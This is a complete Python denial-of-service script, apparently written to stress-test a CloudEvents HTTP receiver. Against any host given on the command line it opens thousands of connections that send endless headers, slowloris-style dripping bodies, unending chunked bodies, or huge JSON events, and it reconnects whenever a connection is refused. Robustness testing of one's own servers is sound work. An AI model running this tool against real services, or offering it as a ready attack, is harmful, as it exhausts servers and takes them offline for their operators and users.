"""A sender that means harm: `python hostile_sender.py HOST:PORT /path KIND`, until it is ended.

    headers   2,500 connections with a head of 10,889 headers that doesn't end
    members   structured events of a megabyte with 90,000 attributes, one after another
    integers  structured events of a megabyte with 490,000 integers in their data, one after another
    drips     700 connections that hold all but the end of an event of 98 kB, and drip
    chunks    20 connections with bodies in chunks of two bytes that don't end

A connection that is refused is opened anew after a second.
"""

from __future__ import annotations

import asyncio
import sys
from collections.abc import Awaitable, Callable
from contextlib import suppress
from typing import Final

AGAIN: Final = 1.0
"""Seconds after which a closed or refused connection is opened anew."""
DRIP_INTERVAL: Final = 2.0
"""Seconds between two pieces that a dripping connection sends."""
BINARY: Final = b"".join(b"ce-%b: hostile\r\n" % name for name in (b"id", b"source", b"type")) + (
    b"ce-specversion: 1.0\r\n"
)
EVENT: Final = b'{"specversion":"1.0","id":"1","source":"/hostile","type":"com.example.hostile",'
DRIPPED: Final = 98_000

Send = Callable[[asyncio.StreamReader, asyncio.StreamWriter, bytes], Awaitable[None]]
"""Sends on a new connection; the last argument is the beginning of each request's head."""


def _attributes() -> bytes:
    """Return a structured event with 90,000 attributes."""
    return EVENT + b",".join(b'"x%d":1' % number for number in range(90_000)) + b"}"


def _integers() -> bytes:
    """Return a structured event with 490,000 integers in its data."""
    return EVENT + b'"data":[' + b"1," * 489_999 + b"1]}"


def posting(document: bytes) -> Send:
    """Return a function that sends one structured event after the other on a connection, each after
    the answer."""
    request = b"content-type: application/cloudevents+json\r\ncontent-length: %d\r\n\r\n%b"

    async def send(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, head: bytes) -> None:
        """Send the event again and again, each after the answer to the one before."""
        while True:
            writer.write(head + request % (len(document), document))
            await writer.drain()
            answer = await reader.readuntil(b"\r\n\r\n")
            length = answer.lower().partition(b"content-length: ")[2].partition(b"\r\n")[0]
            await reader.readexactly(int(length))

    return send


def dripping(begin: bytes, drop: bytes) -> Send:
    """Return a function that sends the beginning of a request, then `drop` again and again without
    ever ending the request."""

    async def send(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, head: bytes) -> None:
        """Send the beginning, then `drop` every `DRIP_INTERVAL` seconds until the receiver
        closes."""
        writer.write(head + begin)
        await writer.drain()
        while not reader.at_eof():
            with suppress(TimeoutError):
                async with asyncio.timeout(DRIP_INTERVAL):
                    if not await reader.read(4096):
                        return
            writer.write(drop)
            await writer.drain()

    return send


KINDS: Final[dict[str, tuple[int, Callable[[], Send]]]] = {
    "headers": (2_500, lambda: dripping(b"ab:\r\n" * 10_889, b"a")),
    "members": (1, lambda: posting(_attributes())),
    "integers": (1, lambda: posting(_integers())),
    "drips": (
        700,
        lambda: dripping(
            BINARY + b"content-length: %d\r\n\r\n" % DRIPPED + b"x" * (DRIPPED - 1_000), b"x"
        ),
    ),
    "chunks": (
        20,
        lambda: dripping(
            BINARY + b"transfer-encoding: chunked\r\n\r\n" + b"2\r\nxx\r\n" * 140_000, b"1\r\nx\r\n"
        ),
    ),
}
"""By kind: the number of connections, and the factory of the function that each of them runs."""


async def main(address: str, path: str, kind: str) -> None:
    """Keep the connections of this kind open to `address` (host:port) until cancelled."""
    host, _, port = address.partition(":")
    head = b"POST %b HTTP/1.1\r\nhost: %b\r\n" % (path.encode(), host.encode())
    count, make = KINDS[kind]
    send = make()

    async def connection() -> None:
        """Open a connection and send on it, again and again."""
        while True:
            with suppress(OSError, asyncio.IncompleteReadError):
                reader, writer = await asyncio.open_connection(host, int(port))
                try:
                    await send(reader, writer, head)
                finally:
                    writer.close()
            await asyncio.sleep(AGAIN)

    await asyncio.gather(*(connection() for _ in range(count)))


if __name__ == "__main__":
    asyncio.run(main(*sys.argv[1:4]))
